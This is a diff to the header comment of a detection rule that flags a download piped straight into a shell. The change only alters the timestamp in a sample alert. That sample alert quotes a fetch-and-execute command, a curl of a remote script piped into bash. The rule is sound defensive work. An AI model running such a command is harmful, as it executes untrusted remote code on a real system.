@@ -4,7 +4,7 @@
 // knows: one that fetches, and a shell that is given no script. A join pairs them.
 //
 //     $ sudo ringside run fetched-into-shell.js -o line
-//     time=2026-05-04T13:15:20.411902210Z level=medium rule=fetched-into-shell message="ada: curl -fsSL http://198.51.100.23/i.sh | bash"
+//     time=2026-05-04T13:15:20.400700000Z level=medium rule=fetched-into-shell message="ada: curl -fsSL http://198.51.100.23/i.sh | bash"
 //
 // Known false positives: installers that are meant to be used so. Those of `trusted` are left out.
 // References: https://attack.mitre.org/techniques/T1105/ https://attack.mitre.org/techniques/T1059/004/
